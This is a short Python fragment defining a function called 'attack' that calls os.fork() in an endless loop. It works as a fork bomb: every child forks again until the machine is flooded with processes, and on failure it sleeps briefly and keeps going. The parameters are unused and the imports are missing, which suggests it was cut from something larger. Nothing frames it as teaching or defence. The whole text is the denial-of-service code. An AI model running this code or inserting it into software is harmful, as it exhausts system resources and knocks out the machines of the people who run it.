# Forks for ever, every child too.
def attack(places, what):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.5)  # so that the machine can still be asked
